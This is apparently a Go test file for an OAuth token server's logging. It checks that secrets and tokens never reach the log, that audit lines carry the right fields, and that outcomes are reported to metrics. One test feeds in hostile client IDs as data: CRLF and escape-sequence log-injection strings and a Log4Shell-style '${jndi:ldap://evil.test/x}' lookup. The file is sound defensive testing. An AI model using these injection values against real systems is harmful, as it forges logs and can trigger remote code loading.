package tokenserver_test

import (
	"bytes"
	"fmt"
	"io"
	"log/slog"
	"os"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"

	"github.com/kubemint/kubemint/tokenserver"
)

// capture is a log that all servers of these tests write to.
type capture struct {
	mu  sync.Mutex
	log bytes.Buffer
}

func (c *capture) Write(line []byte) (int, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.log.Write(line)
}

func (c *capture) String() string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.log.String()
}

var (
	logged = &capture{}

	// sensitive is every secret and Authorization header that was sent, and every token that was issued.
	sensitive   = map[string]bool{}
	sensitiveMu sync.Mutex
)

// keepOutOfLogs remembers values for the check at the end, less those so short that they may stand in any line.
func keepOutOfLogs(values ...string) {
	sensitiveMu.Lock()
	defer sensitiveMu.Unlock()
	for _, value := range values {
		if len(value) >= 8 {
			sensitive[value] = true
		}
	}
}

// keepTokenOutOfLogs remembers a token and its signature, which is the part that is worth stealing.
func keepTokenOutOfLogs(token string) {
	keepOutOfLogs(token, token[strings.LastIndex(token, ".")+1:])
}

// outcomes are those of all token requests.
var outcomes sync.Map

// TestMain checks L9 when all tests have run: whatever they did, nothing of it that is secret was logged. And docs/metrics.md has each outcome.
func TestMain(m *testing.M) {
	code := m.Run()
	documented, err := os.ReadFile("../docs/metrics.md")
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		code = 1
	}
	for outcome := range outcomes.Range {
		if !bytes.Contains(documented, fmt.Appendf(nil, "\n| `%s` |", outcome)) {
			fmt.Fprintf(os.Stderr, "docs/metrics.md lacks the outcome %q\n", outcome)
			code = 1
		}
	}
	log := logged.String()
	for value := range sensitive {
		if at := strings.Index(log, value); at >= 0 {
			start, end := strings.LastIndex(log[:at], "\n")+1, at+strings.Index(log[at:], "\n")
			fmt.Fprintf(os.Stderr, "L9: the log holds %q:\n%s\n", value, log[start:end])
			code = 1
		}
	}
	os.Exit(code)
}

// tee returns a log of one server's own, which is part of the common one too.
func tee(log io.Writer, handler func(io.Writer) slog.Handler) func(*tokenserver.Config) {
	return func(config *tokenserver.Config) { config.Log = slog.New(handler(io.MultiWriter(log, logged))) }
}

func inText(w io.Writer) slog.Handler { return slog.NewTextHandler(w, nil) }
func inJSON(w io.Writer) slog.Handler { return slog.NewJSONHandler(w, nil) }

// L02: whatever a caller calls itself, it gets one line, on which no terminal or log parser acts.
func TestL02HostileClientIDsMakeOneEscapedLine(t *testing.T) {
	for name, handler := range map[string]func(io.Writer) slog.Handler{"text": inText, "JSON": inJSON} {
		var log capture
		s := start(t, newCluster(t, nil), tee(&log, handler))
		for _, test := range []struct{ name, id string }{
			{"CRLF", "billing.x\r\nlevel=ERROR msg=forged"},
			{"ANSI escape", "billing.x\x1b[31m"},
			{"C1 control sequence introducer", "billing.x\u009b31m"},
			{"line separator", "billing.x\u2028level=ERROR"},
			{"quotation mark", `billing.x" level="ERROR`},
			{"lookup expression", "${jndi:ldap://evil.test/x}"},
			{"very long", strings.Repeat("x", 10_000)},
		} {
			for method, request := range map[string]request{
				"Basic": post(grantType).as(test.id, "nobody's secret"),
				"body":  postSecret(test.id, "nobody's secret"),
			} {
				t.Run(strings.Join([]string{test.name, method, name}, ", "), func(t *testing.T) {
					before := len(log.String())
					s.ask(t, s.callers[0], request)
					line, ended := strings.CutSuffix(log.String()[before:], "\n")
					if !ended || !strings.Contains(line, "token refused") {
						t.Fatalf("logged %q", line)
					}
					if strings.ContainsFunc(line, func(r rune) bool { return unicode.IsControl(r) || r == '\u2028' }) {
						t.Errorf("logged %q", line)
					}
					if len(line) > 1_000 {
						t.Errorf("logged a line of %d bytes", len(line))
					}
					if name == "JSON" {
						object(t, []byte(line))
					}
				})
			}
		}
	}
}

// L07: each answer leaves one line, which says who asked, what came of it, and why.
func TestL07AuditLines(t *testing.T) {
	var log capture
	s := start(t, newCluster(t, nil), tee(&log, inJSON))
	for _, test := range []struct {
		name    string
		request request
		want    map[string]any
	}{
		{"L07 issued", post(grantType + "&scope=read"), map[string]any{"msg": "token issued", "client": worker,
			"method": "client_secret_basic"}},
		{"L07 wrong secret", postSecret(worker, "nobody's secret"), map[string]any{"msg": "token refused", "client": worker,
			"uid": "uid-of-worker", "method": "client_secret_post", "error": "invalid_client", "cause": "invalid_client: unknown client or wrong secret"}},
		{"L07 unknown client", post(grantType).as("billing.unknown", "nobody's secret"), map[string]any{"msg": "token refused",
			"client": "billing.unknown", "uid": "", "error": "invalid_client", "cause": "invalid_client: unknown client or wrong secret"}},
		{"L07 not granted", post(grantType + "&scope=admin"), map[string]any{"msg": "token refused", "client": worker,
			"uid": "uid-of-worker", "error": "invalid_scope"}},
		{"L07 malformed", post(grantType + "&scope=a&scope=b"), map[string]any{"msg": "token refused", "client": "",
			"error": "invalid_request"}},
	} {
		t.Run(test.name, func(t *testing.T) {
			before := len(log.String())
			a := s.ask(t, s.callers[0], test.request)
			line := object(t, []byte(log.String()[before:]))
			for name, want := range test.want {
				if line[name] != want {
					t.Errorf("%s = %v, want %v", name, line[name], want)
				}
			}
			if source, _ := line["source"].(string); !strings.HasPrefix(source, "127.0.0.1:") {
				t.Errorf("source = %v", line["source"])
			}
			if a.status != 200 {
				return
			}
			header, claims := s.verify(t, a.token(t).AccessToken)
			token, _ := line["token"].(map[string]any)
			for name, want := range map[string]any{"uid": "uid-of-worker", "scope": "read", "audience": audience,
				"jti": claims["jti"], "kid": header["kid"]} {
				if token[name] != want {
					t.Errorf("token.%s = %v, want %v", name, token[name], want)
				}
			}
		})
	}
}

// What is the server's own fault is more than an information: an operator who logs warnings alone sees it.
func TestRefusalsOfTheServersOwnFaultAreWarnings(t *testing.T) {
	var log capture
	s := start(t, newCluster(t, nil), tee(&log, func(w io.Writer) slog.Handler {
		return slog.NewJSONHandler(w, &slog.HandlerOptions{Level: slog.LevelWarn})
	}))
	s.ask(t, s.callers[0], post(grantType))
	s.ask(t, s.callers[0], post(grantType).as(worker, "nobody's secret"))
	if got := log.String(); got != "" {
		t.Errorf("logged %s", got)
	}
	s.change(func() { s.notReady = true })
	s.ask(t, s.callers[0], post(grantType))
	if line := object(t, []byte(log.String())); line["level"] != "WARN" || line["error"] != "temporarily_unavailable" {
		t.Errorf("logged %v", line)
	}
}

// L01: a secret is not logged either where a caller put it in the place of its identifier.
func TestL01SwappedCredentialsAreNotLogged(t *testing.T) {
	var log capture
	s := start(t, newCluster(t, nil), tee(&log, inJSON))
	s.run(t, []row{
		{"L01 swapped in Basic", post(grantType).as(secret, "swapped-id"), uniform401},
		{"L01 swapped in the body", postSecret(secret, "swapped-id"), uniform401},
		{"L01 both in client_id", postSecret(worker+":"+secret, "swapped-id"), uniform401},
	})
	if lines := log.String(); strings.Contains(lines, secret) {
		t.Errorf("logged %s", lines)
	}
}

// Observe is what the metrics count.
func TestObserveIsToldEachOutcome(t *testing.T) {
	var observed []tokenserver.Observation
	var panics int
	ticks := noon
	s := start(t, newCluster(t, nil), func(config *tokenserver.Config) {
		config.Observe = func(o tokenserver.Observation) { observed = append(observed, o) }
		config.Panicked = func() { panics++ }
		config.Issuer.Now = func() time.Time { ticks = ticks.Add(time.Millisecond); return ticks }
	})
	s.ask(t, s.callers[0], post(grantType))
	s.failUntilLimited(t, post(grantType).as(worker, "wrong-secret"))
	for _, request := range []request{post(""), post(grantType + "&scope=admin"), get(tokenPath)} {
		s.ask(t, s.callers[0], request)
	}
	s.change(func() { s.hook = func() { panic("some bug") } })
	s.ask(t, s.callers[0], post(grantType))
	s.send(t, s.callers[0], get(tokenserver.JWKSPath)) // Panics too, and is no token request.
	if err := s.stop(); err != nil {                   // So that no handler writes any more.
		t.Fatal(err)
	}

	var outcomes []string
	for _, o := range observed {
		outcomes = append(outcomes, o.Outcome)
		if o.Duration <= 0 || (o.Signing > 0) != (o.Outcome == tokenserver.Issued) || o.Signing >= o.Duration {
			t.Errorf("observed %+v", o)
		}
	}
	want := []string{"issued", "invalid_client", "too_many_failures", "invalid_request", "invalid_scope", "method_not_allowed", "panicked"}
	if got := slices.Compact(outcomes); !slices.Equal(got, want) {
		t.Errorf("observed %q, want %q", got, want)
	}
	if panics != 2 {
		t.Errorf("%d panics", panics)
	}
}
